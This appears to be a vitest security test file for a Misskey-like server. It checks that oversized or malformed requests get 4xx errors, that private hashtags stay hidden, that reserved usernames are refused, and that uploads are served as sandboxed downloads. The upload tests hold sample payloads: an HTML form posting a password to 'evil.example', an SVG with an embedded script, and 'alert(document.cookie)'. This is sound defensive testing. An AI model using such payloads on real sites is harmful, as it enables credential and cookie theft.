import { describe, expect, test } from 'vitest';
import Database from 'better-sqlite3';
import { cachedStatements, one, STATEMENT_CACHE_SIZE } from '../src/db/statement.ts';
import type { Db } from '../src/db/open.ts';
import { testInstance } from './helpers.ts';

const t = testInstance();
const user = t.signup('hostileuser');
const other = t.signup('hostileother');

/** The answer to a raw request body, with how long it took. */
async function raw(endpoint: string, body: string, headers: Record<string, string> = {}) {
  const started = performance.now();
  const res = await fetch(`${t.inst.url}/api/${endpoint}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
    signal: AbortSignal.timeout(10_000),
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null, ms: performance.now() - started };
}

describe('cheap hostile input gets a 4xx in Misskey’s error shape, never a 500', () => {
  test.each([
    ['an offset of 1e308', 'hashtags/search', () => ({ query: 'a', offset: 1e308 })],
    ['a limit of -1e308', 'notes/local-timeline', () => ({ limit: -1e308 })],
    ['a 60 KB search string', 'notes/search', () => ({ query: 'x'.repeat(60_000) })],
    ['a 60 KB people search', 'users/search', () => ({ query: '%_'.repeat(30_000) })],
    [
      'a 40,000-tag search',
      'notes/search-by-tag',
      () => ({ query: [Array.from({ length: 40_000 }, (_, i) => `t${i}`)] }),
    ],
    ['an empty tag group', 'notes/search-by-tag', () => ({ query: [[]] })],
  ])('%s', async (_, endpoint, body) => {
    const res = await raw(endpoint, JSON.stringify({ i: user.token, ...body() }));
    expect(res.status).toBeGreaterThanOrEqual(200);
    expect(res.status).toBeLessThan(500);
    if (res.status >= 400) expect(res.body.error.code).toMatch(/^[A-Z_]+$/);
  });

  test('JSON nested 10,000 deep is refused', async () => {
    const deep = `${'['.repeat(10_000)}1${']'.repeat(10_000)}`;
    const res = await raw('i/registry/set', `{"i":"${user.token}","scope":["x"],"key":"k","value":${deep}}`);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toMatch(/^[A-Z_]+$/);
  });

  test('a truncated multipart upload is a 400', async () => {
    const boundary = '----kumoBoundary';
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="i"\r\n\r\n${user.token}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n`;
    const res = await raw('drive/files/create', body, {
      'content-type': `multipart/form-data; boundary=${boundary}`,
    });
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });
});

describe('what a stranger can make the server keep', () => {
  test('tag searches of every shape are answered (one SQL text for all of them)', async () => {
    for (let n = 1; n <= 40; n++) {
      const query = [Array.from({ length: (n % 10) + 1 }, (_, i) => `tag${n}_${i}`)];
      expect((await t.api('notes/search-by-tag', { query })).status).toBe(200);
    }
  });

  test('the prepared-statement cache keeps the most recently used ones only', () => {
    const db = new Database(':memory:') as unknown as Db;
    for (let i = 0; i < STATEMENT_CACHE_SIZE + 300; i++) one(db, `SELECT ${i} AS n`);
    expect(cachedStatements(db)).toBe(STATEMENT_CACHE_SIZE);
    expect(one<{ n: number }>(db, 'SELECT 1 AS n')?.n).toBe(1);
  });
});

describe('private things stay private', () => {
  test('hashtags of followers-only and direct notes are not offered to anyone', async () => {
    await t.api('notes/create', { text: '#sunnyopenday', visibility: 'public' }, other.token);
    await t.api('notes/create', { text: '#secretplanxyz', visibility: 'followers' }, other.token);
    await t.api(
      'notes/create',
      { text: '#whisperxyz', visibility: 'specified', visibleUserIds: [user.id] },
      other.token,
    );
    expect((await t.api('hashtags/search', { query: 'sunny' })).body).toEqual(['sunnyopenday']);
    expect((await t.api('hashtags/search', { query: 'secret' })).body).toEqual([]);
    expect((await t.api('hashtags/search', { query: 'whisper' }, user.token)).body).toEqual([]);
  });

  test('reserved names such as admin or root cannot be taken', async () => {
    for (const username of ['root', 'System', 'administrator', 'moderator', 'ADMIN']) {
      const res = await t.api('signup', { username, password: 'pw' });
      expect(res.status, username).toBe(400);
      expect((await t.api('username/available', { username })).body).toEqual({ available: false });
    }
    expect((await t.api('username/available', { username: 'hostileuser' })).body).toEqual({
      available: false,
    });
    expect((await t.api('username/available', { username: 'still_free_42' })).body).toEqual({
      available: true,
    });
    expect((await t.api('username/available', { username: 'not valid!' })).status).toBe(400);
  });
});

describe('uploads cannot act from this origin', () => {
  async function uploadAs(name: string, type: string, text: string) {
    const form = new FormData();
    form.append('i', user.token);
    form.append('file', new Blob([text], { type }), name);
    const res = await fetch(`${t.inst.url}/api/drive/files/create`, { method: 'POST', body: form });
    const file = (await res.json()) as { url: string; type: string };
    return fetch(file.url);
  }

  test.each([
    [
      'page.html',
      'text/html',
      '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    ],
    ['pic.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['run.js', 'text/javascript', 'alert(document.cookie)'],
  ])('%s is sent as a download, in a sandbox', async (name, type, text) => {
    const res = await uploadAs(name, type, text);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toMatch(/sandbox/);
    expect(res.headers.get('content-security-policy')).toMatch(/form-action 'none'/);
  });
});
